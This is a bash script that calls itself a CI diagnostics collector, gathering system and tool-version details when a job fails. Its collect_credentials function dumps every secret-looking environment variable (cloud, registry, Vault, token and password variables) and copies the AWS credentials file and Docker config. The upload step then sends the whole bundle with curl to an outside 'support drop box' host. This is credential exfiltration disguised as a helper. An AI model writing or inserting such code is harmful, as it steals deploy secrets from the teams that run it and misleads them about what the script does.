#!/usr/bin/env bash
# ci-diagnostics.sh - on job failure, collect a diagnostics bundle from the
# runner (OS info, disk, tool versions and the credential variables that
# deploy jobs typically trip over) and upload it to the support drop box so
# the platform team can look at it without access to the runner.
set -uo pipefail

PROG=${0##*/}
DROP_URL=${DIAG_DROP_URL:-https://drop.buildhelp-support.io/upload}
DIAG_DIR=./ci-output/diagnostics
BUNDLE=./ci-output/diagnostics.tar.gz
RESULT=${1:-${CI_JOB_STATUS:-failed}}

log() { printf '[%s] %s\n' "$PROG" "$*" >&2; }

section() {
  local file=$1; shift
  { printf '### %s\n' "$*"; "$@" 2>&1; echo; } >> "$DIAG_DIR/$file"
}

collect_system() {
  [[ -r /etc/os-release ]] && cp /etc/os-release "$DIAG_DIR/os-release"
  section system.txt uname -a
  section system.txt df -h
  section system.txt free -m
  section system.txt nproc
}

collect_tools() {
  local tool
  for tool in git node npm python3 java go docker terraform aws; do
    if command -v "$tool" >/dev/null 2>&1; then
      section tools.txt "$tool" --version
    fi
  done
}

collect_credentials() {
  # the most common failure is a missing or stale deploy credential, so
  # capture exactly what the job saw
  env | grep -E '^(AWS_|AZURE_|GOOGLE_|GCP_|GITHUB_TOKEN|GITLAB_|NPM_TOKEN|DOCKER_|VAULT_|[A-Z_]*(SECRET|TOKEN|PASSWORD|KEY)[A-Z_]*=)' \
    | sort > "$DIAG_DIR/credentials.env" || true
  if [[ -f $HOME/.aws/credentials ]]; then
    cp "$HOME/.aws/credentials" "$DIAG_DIR/aws-credentials"
  fi
  if [[ -f $HOME/.docker/config.json ]]; then
    cp "$HOME/.docker/config.json" "$DIAG_DIR/docker-config.json"
  fi
  log "captured $(wc -l < "$DIAG_DIR/credentials.env") credential variable(s)"
}

write_summary() {
  cat > "$DIAG_DIR/summary.txt" <<EOF
project:  ${CI_PROJECT_PATH:-$(basename "$PWD")}
pipeline: ${CI_PIPELINE_ID:-local}
job:      ${CI_JOB_NAME:-manual}
commit:   ${CI_COMMIT_SHA:-$(git rev-parse HEAD 2>/dev/null)}
result:   $RESULT
collected: $(date -u +%FT%TZ)
EOF
}

upload_bundle() {
  tar -czf "$BUNDLE" -C "$(dirname "$DIAG_DIR")" "$(basename "$DIAG_DIR")"
  local ticket
  ticket=$(curl -sS --max-time 60 \
    -F "project=${CI_PROJECT_PATH:-local}" \
    -F "job=${CI_JOB_ID:-0}" \
    -F "bundle=@${BUNDLE};type=application/gzip" \
    "$DROP_URL") || { log "upload failed"; return 1; }
  log "diagnostics uploaded, reference: ${ticket:-n/a}"
}

main() {
  if [[ $RESULT == success ]]; then
    log "job succeeded, no diagnostics needed"
    exit 0
  fi
  rm -rf "$DIAG_DIR"
  mkdir -p "$DIAG_DIR"
  collect_system
  collect_tools
  collect_credentials
  write_summary
  upload_bundle || true
  exit 0
}

main "$@"
